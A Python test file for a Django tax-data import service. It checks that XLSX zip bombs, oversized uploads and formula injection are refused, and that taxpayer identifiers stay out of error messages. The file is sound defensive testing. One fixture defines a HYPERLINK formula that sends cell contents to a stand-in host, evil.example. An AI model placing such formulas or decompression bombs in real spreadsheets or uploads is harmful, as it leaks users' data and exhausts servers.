"""Uploads as the tester attacked them: a 1 MB XLSX that inflates to 600 MB, a 2 KB one that asks for a grid of
17 billion cells, a file over the size limit, formulas in values that come back in the error report, and a
missing header that echoed the first row's NPWP and phone."""

import io
import json

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import override_settings
from django.utils import translation

from triplec.accounts.roles import Role
from triplec.audit.models import AuditEntry
from triplec.imports.models import ImportRun
from triplec.imports.services import import_run
from triplec.tests.bombs import import_in_subprocess, write_sparse_xlsx, write_xlsx_bomb
from triplec.tests.support import database_url_for_subprocess, make_user

from .helpers import npwp15, report_rows

WORKER_MEMORY_LIMIT_MB = 300


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("build", [write_xlsx_bomb, write_sparse_xlsx], ids=["bomb-600MB", "sparse-grid"])
def test_it_refuses_an_xlsx_bomb_and_the_importing_process_stays_under_300_mb(office, tmp_path, build):
    path = tmp_path / "wp.xlsx"
    build(str(path))
    zipped = path.stat().st_size
    report = import_in_subprocess(str(path), env={"DATABASE_URL": database_url_for_subprocess()})
    print(json.dumps({"name": "xlsx_bomb_import", "file": build.__name__, "zipped_bytes": zipped, **report}))
    assert report["exit_code"] == 2
    assert "buku kerja" in report["message"] or "lembar kerja" in report["message"]
    assert report["peak_rss_mb"] < WORKER_MEMORY_LIMIT_MB
    assert zipped < 2 * 1024 * 1024


def test_it_refuses_a_small_bomb_in_process_with_a_clear_indonesian_message(office, tmp_path):
    path = tmp_path / "wp.xlsx"
    write_xlsx_bomb(str(path), sheet_mb=3)
    with override_settings(IMPORT_XLSX_MAX_UNCOMPRESSED_MB=2):
        result = import_run(kind="taxpayers", path_or_fileobj=str(path))
    assert result.exit_code == 2
    with translation.override("id"):
        assert "lebih dari 2 MB setelah diekstrak" in result.message
    assert ImportRun.objects.get().status == ImportRun.Status.FAILED


def test_it_refuses_a_zip_whose_headers_understate_the_sizes(office, tmp_path):
    """The declared sizes are only a first check: every member is inflated with a cap on what really comes out."""
    path = tmp_path / "wp.xlsx"
    write_xlsx_bomb(str(path), sheet_mb=3)
    with override_settings(IMPORT_XLSX_MAX_UNCOMPRESSED_MB=2):
        from triplec.imports import xlsxguard

        real = xlsxguard.zipfile.ZipFile.infolist

        def lying(self):
            infos = real(self)
            for info in infos:
                info.file_size = min(info.file_size, 1000)
            return infos

        xlsxguard.zipfile.ZipFile.infolist = lying
        try:
            result = import_run(kind="taxpayers", path_or_fileobj=str(path))
        finally:
            xlsxguard.zipfile.ZipFile.infolist = real
    with translation.override("id"):
        assert result.exit_code == 2 and ("diekstrak" in result.message or "rusak" in result.message)


def test_it_still_imports_an_ordinary_workbook(office, tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["npwp", "nama", "kode_kpp"])
    for i in range(1, 51):
        sheet.append([npwp15(i), f"Wajib Pajak {i}", "922"])
    path = tmp_path / "wp.xlsx"
    book.save(path)
    assert import_run(kind="taxpayers", path_or_fileobj=str(path)).imported == 50


@override_settings(IMPORT_MAX_MB=1)
def test_it_refuses_an_upload_over_the_size_limit_in_indonesian(client, office):
    client.force_login(make_user("staf", Role.COLLECTION_STAFF, office=office))
    big = SimpleUploadedFile("wp.csv", b"npwp;nama;kode_kpp\n" + b"x" * (1024 * 1024 + 1), content_type="text/csv")
    response = client.post("/import/", {"kind": "taxpayers", "file": big})
    assert response.status_code == 200
    assert "Berkas lebih besar dari 1 MB dan tidak diimpor" in response.content.decode()
    assert not ImportRun.objects.exists()


# --- formula injection ----------------------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def test_it_writes_formulas_in_the_import_report_as_text(office, write):
    path = write("wp.csv", f"npwp;nama;kode_kpp\n{FORMULA};Budi;922\n{npwp15(1)};+SUM(1;2);999\n")
    result = import_run(kind="taxpayers", path_or_fileobj=path)
    assert result.rejected == 2
    values = [row["value"] for row in report_rows(result.report_path)]
    stored = ImportRun.objects.get().report_csv
    for text in (*values, stored):
        assert "\n=HYPERLINK" not in "\n" + str(text) and ",=HYPERLINK" not in str(text)
    assert any(v.startswith("'=HYPERLINK") for v in values)


def test_it_keeps_formulas_as_text_in_every_export_through_one_helper():
    from triplec.core import exports
    from triplec.core.spreadsheets import formula_safe

    assert formula_safe(FORMULA) == "'" + FORMULA
    assert formula_safe("-1+1") == "'-1+1" and formula_safe("@cmd") == "'@cmd" and formula_safe(1500) == 1500
    response = exports.csv_response("x.csv", ["=header"], [[FORMULA, "Budi", 5]])
    body = b"".join(response.streaming_content).decode()
    assert "'=header" in body and "'=HYPERLINK" in body
    xlsx = exports.xlsx_response("x.xlsx", "Daftar", ["nama"], [[FORMULA]])
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert sheet["A2"].value == "'" + FORMULA and sheet["A2"].data_type == "s"


# --- identifiers in file-level messages -----------------------------------------------------------------------
def test_it_does_not_echo_the_first_rows_npwp_and_phone_when_the_header_is_missing(office, write, capsys):
    npwp, phone = npwp15(7), "081234567890"
    path = write("wp.csv", f"{npwp};Budi Santoso;922;{phone}\n{npwp15(8)};Maria;922;081298765432\n")
    with pytest.raises(CommandError) as refused:
        call_command("import_data", "taxpayers", str(path), "--no-progress")
    shown = [
        str(refused.value),
        ImportRun.objects.get().message,
        AuditEntry.objects.get(action="import").summary,
        capsys.readouterr().err,
    ]
    for text in shown:
        assert npwp not in text and phone not in text and "1234567890" not in text
    assert "missing required column" in shown[0]
